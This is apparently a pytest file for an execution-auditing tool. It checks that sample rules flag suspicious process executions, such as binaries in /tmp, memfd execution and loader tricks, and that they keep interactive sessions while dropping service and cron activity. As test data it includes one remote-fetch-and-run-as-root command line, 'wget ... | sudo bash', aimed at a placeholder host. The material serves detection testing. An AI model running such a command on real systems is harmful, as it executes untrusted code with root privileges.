# SPDX-License-Identifier: Apache-2.0
"""The samples of rules do what their comments say."""

from typing import Any

import pytest

from execaudit.config.configuration import Paths, load, read_rules
from execaudit.rules.notes import find_notes
from execaudit.rules.rule_set import RuleSet, compile_rules
from tests.integration.requirements import CHECKOUT
from tests.rule_tables import LOOKUPS, decide, record

SAMPLES = CHECKOUT / "packaging/config/rules.d"
NAMES = sorted(path.name for path in SAMPLES.glob("*.sample"))


def sample(name: str) -> RuleSet:
    tables, problems = read_rules((SAMPLES / f"{name}.toml.sample").read_text())
    rules, _ = compile_rules(tables, LOOKUPS)
    assert rules is not None, problems
    return rules


@pytest.mark.parametrize("name", NAMES)
def test_sample_draws_no_note_about_links_or_order(name: str, tmp_path: Any) -> None:
    (tmp_path / "execaudit.toml").write_text("")
    (tmp_path / "rules.d").mkdir()
    (tmp_path / "rules.d" / "1.toml").write_text((SAMPLES / name).read_text())
    notes = find_notes(load(Paths.of_file(tmp_path / "execaudit.toml")))
    # What is not installed here is not the sample's mistake.
    assert [str(note) for note in notes if "there is no" not in note.text] == []


SUSPICIOUS: list[dict[str, Any]] = [
    {"exe": "/tmp/x"},
    {"exe": "/usr/bin/bash", "script": "/tmp/x.sh", "argv": ["/bin/sh", "/tmp/x.sh"]},
    {"exe": "/usr/bin/dash", "script": "./x.sh", "cwd": "/tmp", "argv": ["/bin/sh", "./x.sh"]},
    {"exe": "/usr/bin/dash", "script": "x.sh", "cwd": "/var/tmp/a", "argv": ["/bin/sh", "x.sh"]},
    {"exe": "/usr/bin/python3.11", "argv": ["python3", "-B", "/dev/shm/x.py"]},
    {
        "exe": "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
        "argv": ["/lib64/ld-linux-x86-64.so.2", "/tmp/x"],
    },
    {"exe": "/memfd:x", "memfd": True},
    {"exe": "/memfd:runc_cloned:/proc/self/exe", "memfd": True, "uid": 1000, "auid": 1000},
    {"exe": "/memfd:runc_cloned:/proc/self/exe", "memfd": True, "uid": 0, "auid": 1000},
    {"exe": "/usr/bin/dash", "argv": ["sh", "-c", "wget -O- http://x.example/x | sudo bash"]},
]
HARMLESS: list[dict[str, Any]] = [
    {"exe": "/usr/bin/cp", "argv": ["cp", "/tmp/x", "."]},
    {"exe": "/usr/bin/python3.11", "argv": ["python3", "x.py", "/tmp/x"]},
    {"exe": "/usr/bin/dash", "script": "./x.sh", "cwd": "/srv", "argv": ["/bin/sh", "./x.sh"]},
    {"exe": "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", "argv": ["ld.so", "/usr/bin/ls"]},
    {"exe": "/memfd:runc_cloned:/proc/self/exe", "memfd": True, "uid": 0},
    {"exe": "/usr/bin/dash", "argv": ["sh", "-c", "wget -O x http://x.example/x && bash -n x"]},
]


@pytest.mark.parametrize("fields", SUSPICIOUS, ids=str)
def test_kind_that_deserves_a_look_is_labelled(fields: dict[str, Any]) -> None:
    assert "suspicious" in decide(sample("50-labels"), record() | fields).labels


@pytest.mark.parametrize("fields", HARMLESS, ids=str)
def test_what_looks_like_it_is_not_labelled(fields: dict[str, Any]) -> None:
    assert decide(sample("50-labels"), record() | fields).labels == ()


RUN0 = {"unit": "run-u12.service", "slice": "user.slice", "uid": 0}
PEOPLE: list[dict[str, Any]] = [
    {"auid": 1000, "tty": "pts0", "unit": "session-3.scope", "slice": "user-1000.slice"},
    {"auid": 1000, "unit": "session-4.scope", "slice": "user-1000.slice"},  # ssh host command
    {**RUN0, "tty": "pts1"},
    {**RUN0, "slice": "system.slice", "tty": "pts1"},  # systemd-run -t
    RUN0,
    {"unit": "container-shell@1.service", "slice": "system.slice", "tty": "pts2"},
    {"unit": "cups.service", "slice": "system.slice", "privileged": True},
]
SERVICES: list[dict[str, Any]] = [
    {"unit": "cron.service", "slice": "system.slice", "auid": 1000},
    {"unit": "cups.service", "slice": "system.slice"},
    {"unit": "fstrim.service", "slice": "system.slice", "uid": 0},
]


@pytest.mark.parametrize("fields", PEOPLE, ids=str)
def test_what_people_do_is_kept(fields: dict[str, Any]) -> None:
    assert decide(sample("90-people-only"), record() | fields).action == "keep"


@pytest.mark.parametrize("fields", SERVICES, ids=str)
def test_what_services_and_cron_do_is_dropped(fields: dict[str, Any]) -> None:
    assert decide(sample("90-people-only"), record() | fields).action == "drop"


def test_job_of_cron_with_a_session_of_its_own_is_dropped() -> None:
    rules = sample("90-people-only")
    decide(rules, record(5, exe="/usr/sbin/crond"))
    job = {"auid": 1000, "unit": "session-9.scope", "slice": "user-1000.slice"}
    assert decide(rules, record(6, above=(5,)) | job).action == "drop"
